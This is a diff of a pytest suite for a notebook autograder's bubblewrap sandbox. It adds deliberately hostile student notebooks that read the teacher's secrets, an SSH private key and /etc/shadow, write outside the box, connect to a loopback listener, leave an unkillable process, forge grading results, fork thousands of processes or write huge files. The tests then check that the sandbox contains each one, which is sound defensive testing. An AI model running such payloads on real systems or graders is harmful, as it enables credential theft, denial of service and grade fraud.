@@ -1,25 +1,35 @@
-"""grading.py: a class made here, graded in one call: every row and column, the report, and CLASS untouched.
+"""grading.py, sandbox.py, runner.py: a class made here, graded in one call, in the real bubblewrap sandbox.
 
 The class holds right answers, silent wrong lines, crashes, an empty handout, notebooks that hang, eat memory,
-kill their kernel or delete files around them, corrupt files, another notebook, edited checks and reordered cells.
+kill their kernel or delete files around them, corrupt files, another notebook, edited checks and reordered cells,
+and a hostile part: notebooks that read the teacher's secrets, write outside their box, connect to a server on
+127.0.0.1, leave a process that ignores SIGTERM, forge their result, fork without end or write a huge file.
 """
 
 import csv
 import hashlib
 import html
+import os
+import secrets
+import socket
+import threading
 import zipfile
+from pathlib import Path
 
 import nbformat
 import pytest
 
-import checks
+import answer_key
 import grading
 import nbrun
+import report
 from helpers import EXERCISE, SAMPLE_DIR, filled_handout
 from mistakes import WRONG, Line, apply
 
 PARAMETERS = {name: nbrun.SAMPLE[name] for name in ("n_train", "n_valid")}  # the sample's split
-ALL_OK = dict.fromkeys(checks.COLUMNS, "ok")
+COLUMNS = answer_key.COLUMNS
+ALL_OK = dict.fromkeys(COLUMNS, "ok")
+TOKEN = secrets.token_hex(8)  # what the hostile notebooks look for, and what must appear nowhere
 
 
 def with_cell(nb, cell_id, change):
@@ -67,17 +77,17 @@ def make_class(folder):
         blanks=ALL_OK | {"training.dLdb_3": "wrong"}, accuracy=False, problem="not trained: cell train raised")
     add("erin/inference.ipynb", filled_handout(WRONG["inference: U_3 crashes"]),
         blanks=ALL_OK | {"inference.U_3": "error"}, accuracy=False, problem="not trained: blanks left or lines")
-    add("frank/empty.ipynb", nbformat.read(EXERCISE, as_version=4), blanks=dict.fromkeys(checks.COLUMNS, "empty"),
+    add("frank/empty.ipynb", nbformat.read(EXERCISE, as_version=4), blanks=dict.fromkeys(COLUMNS, "empty"),
         accuracy=False, problem="not trained: blanks left")
     add("ivan/memory.ipynb", with_cell(filled_handout(), "functions",
                                        lambda s: "hog = [bytearray(10**8) for _ in range(200)]\n" + s),
-        blanks=ALL_OK | dict.fromkeys(checks.FUNCTION_ROWS, "error"), accuracy=False,
-        problem="not trained: blanks left or lines that raise")
+        blanks=ALL_OK | dict.fromkeys(answer_key.FUNCTION_ROWS, "error"), accuracy=False,
+        problem="not trained: memory cap: cell functions raised MemoryError")
     add("judy/kills.ipynb", with_cell(filled_handout(), "train",
                                       lambda s: "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n" + s),
         blanks=ALL_OK, accuracy=False, problem="the kernel died")
     add("mallory/vandal.ipynb", with_cell(filled_handout(), "functions", lambda s: VANDAL + s),
-        blanks=ALL_OK, accuracy=False, problem="the notebook could not be run")
+        blanks=ALL_OK, accuracy=True)  # it emptied its own box, and nothing else
     edited = with_cell(filled_handout(), "train-answer-check", lambda s: "pass")
     add("oscar/edited checks.ipynb", edited, blanks=ALL_OK, accuracy=True, checks_changed=True)
     reordered = filled_handout()
@@ -88,10 +98,76 @@ def make_class(folder):
     add("trent/corrupt.ipynb", b'{"cells": [', problem="not a notebook")
     other = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")])
     add("victor/other.ipynb", other, problem="not the handout")
+    add_hostile(add, folder)
     (folder / "notes.txt").write_text("not a notebook, not graded")
     (folder / ".ipynb_checkpoints").mkdir()
     nbformat.write(filled_handout(), folder / ".ipynb_checkpoints" / "alice-checkpoint.ipynb")
     return expected
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records every connection it is offered."""
+
+    def __init__(self):
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.port = self.server.getsockname()[1]
+        self.connections = []
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self):
+        while True:
+            try:
+                connection, address = self.server.accept()
+            except OSError:
+                return
+            self.connections.append(address)
+            connection.close()
+
+
+HOME = Path(os.environ.get("HOME", "/root"))
+LISTENER = Listener()
+SURVIVOR = f"mnist-grade-survivor-{TOKEN}"
+
+
+def hostile(code):
+    """A right handout whose training cell first runs code (it runs in the box, as the notebook's kernel)."""
+    return with_cell(filled_handout(), "train", lambda s: code + "\n" + s)
+
+
+def add_hostile(add, folder):
+    """The hostile part of the class: each gets a row saying what happened; nothing leaks, nothing is left."""
+    secret = folder.parent / "teacher-home" / "secret.txt"
+    add("zoe/reads secrets.ipynb", with_cell(hostile(
+        f"for path in [{str(secret)!r}, {str(HOME / '.ssh' / 'id_rsa')!r}, '/etc/shadow']:\n"
+        "  try:\n    print(open(path).read())\n  except OSError as error:\n    print('no', error)"),
+        "functions", lambda s: f"print(open({str(secret)!r}).read() if __import__('os').path.exists("
+                               f"{str(secret)!r}) else '')\n" + s), blanks=ALL_OK, accuracy=True)
+    targets = [HOME / f"written-{TOKEN}", Path("/tmp") / f"written-{TOKEN}", folder / f"written-{TOKEN}"]
+    add("yan/writes outside.ipynb", hostile("\n".join(
+        f"try:\n  open({str(t)!r}, 'w').write('x')\nexcept OSError:\n  pass" for t in targets)),
+        blanks=ALL_OK, accuracy=True)
+    add("xena/connects.ipynb", hostile(
+        "import socket\ntry:\n"
+        f"  socket.create_connection(('127.0.0.1', {LISTENER.port}), timeout=5).sendall(b'{TOKEN}')\n"
+        "except OSError as error:\n  print('no network:', error)"), blanks=ALL_OK, accuracy=True)
+    add("walt/leaves a process.ipynb", hostile(
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import signal, time; "
+        f"signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(3600)', {SURVIVOR!r}])"),
+        blanks=ALL_OK, accuracy=True)
+    forger = filled_handout(WRONG["sigma' forgotten"])
+    forge = ("import checks, json, os\nchecks.check_training = lambda *a, **k: print('✓ all right')\n"
+             "for path in ['out/made.json', '../out/made.json', '/tmp/box/out/made.json']:\n"
+             "  try:\n    open(path, 'w').write(json.dumps({'training': {}}))\n  except OSError:\n    pass\n"
+             "print('GRADING-RESULT ' + json.dumps({'verdicts': {}, 'test_accuracy': '1.0000'}))")
+    add("vera/forges.ipynb", with_cell(forger, "train", lambda s: forge + "\n" + s),
+        blanks=ALL_OK | {"training.Delta_2": "wrong"}, accuracy=True)
+    add("uma/forks.ipynb", hostile("import subprocess\n"
+                                   "kids = [subprocess.Popen(['sleep', '3600']) for _ in range(5000)]"),
+        blanks=ALL_OK, accuracy=False, problem="not trained: process cap")
+    add("ursula/huge file.ipynb", hostile("with open('huge.bin', 'wb') as f:\n  for _ in range(300):\n"
+                                          "    f.write(bytes(2**20))"),
+        blanks=ALL_OK, accuracy=False, problem="not trained: file size cap")
+    return secret, targets
 
 
 def snapshot(folder):
@@ -101,20 +177,31 @@ def snapshot(folder):
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("class")
+    top = tmp_path_factory.mktemp("course")
+    folder = top / "class"
+    folder.mkdir()
+    secret = top / "teacher-home" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text(f"the teacher's secret {TOKEN}")
     expected = make_class(folder)
     before = snapshot(folder)
-    out = tmp_path_factory.mktemp("reports") / "report"
-    # a time limit no notebook of this class comes near, however busy the machine: none of them hangs
-    rows = grading.grade_class(folder, out, jobs=2, timeout=900, memory_mb=3000, parameters=PARAMETERS,
-                               mnist=SAMPLE_DIR / "mnist.npz", progress=lambda line: None)
-    return {"folder": folder, "expected": expected, "before": before, "out": out, "rows": rows}
+    out = top / "report"
+    home = os.environ.get("HOME")
+    os.environ["HOME"] = str(secret.parent)  # the teacher's HOME, as the grader sees it
+    try:
+        # a time limit no notebook of this class comes near, however busy the machine: none of them hangs
+        rows = grading.grade_class(folder, out, jobs=2, timeout=900, memory_mb=3000, parameters=PARAMETERS,
+                                   mnist=SAMPLE_DIR / "mnist.npz", progress=lambda line: None)
+    finally:
+        os.environ["HOME"] = home or ""
+    return {"folder": folder, "expected": expected, "before": before, "out": out, "rows": rows, "top": top}
 
 
 def test_one_row_per_notebook_with_the_contracts_columns(graded):
     with open(graded["out"] / "grades.csv", encoding="utf-8-sig", newline="") as f:
         reader = csv.DictReader(f)
-        assert reader.fieldnames == ["submission", *checks.COLUMNS, "test_accuracy", "checks_changed", "problem"]
+        assert reader.fieldnames == ["submission", *COLUMNS, "test_accuracy", "checks_changed", "problem", "score",
+                                     "max_score"]
         rows = list(reader)
     assert [r["submission"] for r in rows] == sorted(graded["expected"])
 
@@ -123,10 +210,10 @@ def assert_rows(rows, expected):
     rows = {r["submission"]: r for r in rows}
     for name, want in expected.items():
         r = rows[name]
-        blanks = {c: r[c] for c in checks.COLUMNS}
-        assert blanks == want.get("blanks", dict.fromkeys(checks.COLUMNS, "")), name
+        blanks = {c: r[c] for c in COLUMNS}
+        assert blanks == want.get("blanks", dict.fromkeys(COLUMNS, "")), name
         if want.get("accuracy"):
-            assert float(r["test_accuracy"]) > 0.6, (name, r)  # measured: 0.81 to 0.84 on the sample
+            assert r["test_accuracy"] and float(r["test_accuracy"]) > 0.6, (name, r["problem"])  # 0.81 to 0.84 here
         else:
             assert r["test_accuracy"] == "", (name, r)
         assert r["checks_changed"] == ("true" if want.get("checks_changed") else "false"), name
@@ -158,7 +245,7 @@ def test_notebooks_that_never_end_get_a_row_saying_so(tmp_path):
 def test_the_class_folder_is_unchanged_and_the_vandal_touched_no_one_else(graded):
     assert snapshot(graded["folder"]) == graded["before"]
     rows = {r["submission"]: r for r in graded["rows"]}
-    assert rows["mallory/vandal.ipynb"]["softmax"] == "ok"  # it ran, and only harmed its own folder
+    assert rows["mallory/vandal.ipynb"]["test_accuracy"] == rows["alice/mnist_mlp_exercise.ipynb"]["test_accuracy"]
     assert all(rows[name]["test_accuracy"] for name in ("alice/mnist_mlp_exercise.ipynb", "oscar/edited checks.ipynb"))
 
 
@@ -196,7 +283,7 @@ def test_a_zip_of_the_class_is_graded_the_same_and_left_alone(graded, tmp_path):
     assert [r["submission"] for r in rows] == [f"course/{name}" for name in names]
     for r in rows:
         original = by_name[r["submission"].removeprefix("course/")]
-        assert {c: r[c] for c in checks.COLUMNS} == {c: original[c] for c in checks.COLUMNS}
+        assert {c: r[c] for c in COLUMNS} == {c: original[c] for c in COLUMNS}
         assert r["test_accuracy"] == original["test_accuracy"]  # seed 111: the same network
     assert archive.read_bytes() == before
 
@@ -227,4 +314,90 @@ def test_feedback_pages_are_named_after_the_student_and_record_the_settings(grad
     names = sorted(p.name for p in (graded["out"] / "feedback").glob("*.html"))
     assert any(name.endswith("-山田太郎.html") for name in names) and any("-alice.html" in name for name in names)
     page = (graded["out"] / "index.html").read_text(encoding="utf-8")
-    assert "split {&#x27;n_train&#x27;: 2000, &#x27;n_valid&#x27;: 500}" in page and "mnist.npz" in page
+    assert "split {&#x27;n_train&#x27;: 2000, &#x27;n_valid&#x27;: 500}" in page and "sandbox bubblewrap" in page
+
+
+# --------------------------------------------------------------------------------------
+# The hostile part of the class: what crossed the box's walls
+# --------------------------------------------------------------------------------------
+
+
+def everything_written(graded):
+    return b"".join(p.read_bytes() for p in sorted(graded["out"].rglob("*")) if p.is_file())
+
+
+def test_a_secret_of_the_teachers_home_appears_nowhere(graded):
+    assert TOKEN.encode() not in everything_written(graded)
+    assert all(TOKEN.encode() not in p.read_bytes() for p in Path("/tmp").glob("mnist-grade-*/**/*") if p.is_file())
+
+
+def test_files_written_outside_the_box_do_not_exist_afterwards(graded):
+    secret = graded["top"] / "teacher-home"
+    targets = [secret / f"written-{TOKEN}", Path("/tmp") / f"written-{TOKEN}", graded["folder"] / f"written-{TOKEN}"]
+    assert [t for t in targets if t.exists()] == []
+    assert snapshot(graded["folder"]) == graded["before"]
+
+
+def test_the_server_on_the_hosts_loopback_sees_nothing(graded):
+    assert LISTENER.connections == []
+
+
+def test_no_process_of_a_notebook_is_left_when_grading_ends(graded):
+    left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and SURVIVOR.encode() in _cmdline(p)]
+    assert left == []
+
+
+def _cmdline(path):
+    try:
+        return (path / "cmdline").read_bytes()
+    except OSError:
+        return b""
+
+
+def test_a_forged_result_changes_nothing_and_every_right_handout_trains_to_the_same_network(graded):
+    rows = {r["submission"]: r for r in graded["rows"]}
+    assert rows["vera/forges.ipynb"]["training.Delta_2"] == "wrong"
+    assert rows["vera/forges.ipynb"]["test_accuracy"] != "1.0000"
+    right = [name for name, want in graded["expected"].items() if want.get("blanks") == ALL_OK
+             and want.get("accuracy")]
+    assert len(right) >= 8 and len({rows[name]["test_accuracy"] for name in right}) == 1, \
+        {name: rows[name]["test_accuracy"] for name in right}
+
+
+# --------------------------------------------------------------------------------------
+# Scores
+# --------------------------------------------------------------------------------------
+
+
+def test_each_blank_is_worth_a_point_and_a_row_scores_its_right_blanks(graded):
+    for r in graded["rows"]:
+        assert r["max_score"] == "24"
+        assert r["score"] == str(sum(r[c] == "ok" for c in COLUMNS))
+    page = (graded["out"] / "index.html").read_text(encoding="utf-8")
+    assert "得点の分布 / Scores (out of 24)" in page and "24点:" in page
+    bob = next((graded["out"] / "feedback").glob("*bob*")).read_text(encoding="utf-8")
+    assert "<strong>23 / 24</strong>" in bob
+
+
+def test_points_from_a_csv_weight_the_blanks(tmp_path):
+    points = tmp_path / "points.csv"
+    points.write_text("column,points\ntraining.Delta_2,3\n", encoding="utf-8")
+    weights = report.read_points(points)
+    assert weights["training.Delta_2"] == 3 and sum(weights.values()) == 26
+    row = report.row("a", {"verdicts": {c: {"status": "ok"} for c in COLUMNS} | {"training.Delta_2": {
+        "status": "wrong"}}}, weights)
+    assert (row["score"], row["max_score"]) == ("23", "26")
+    assert list(row)[-2:] == ["score", "max_score"] and list(row)[:-2] == ["submission", *COLUMNS, "test_accuracy",
+                                                                          "checks_changed", "problem"]
+    for bad, message in (("col,pts\n", "header column,points"), ("column,points\ntraining.Delta_9,3\n", "line 2"),
+                         ("column,points\nsoftmax,-1\n", "0 or more")):
+        points.write_text(bad, encoding="utf-8")
+        with pytest.raises(ValueError, match=message):
+            report.read_points(points)
+
+
+def test_the_command_line_refuses_bad_points_without_writing(tmp_path, capsys):
+    (tmp_path / "points.csv").write_text("column,points\nnot a column,2\n", encoding="utf-8")
+    assert grading.main([str(tmp_path), "--out", str(tmp_path / "r"), "--points", str(tmp_path / "points.csv"),
+                         "--data", str(SAMPLE_DIR)]) == 2
+    assert "not a column of grades.csv" in capsys.readouterr().err and not (tmp_path / "r").exists()
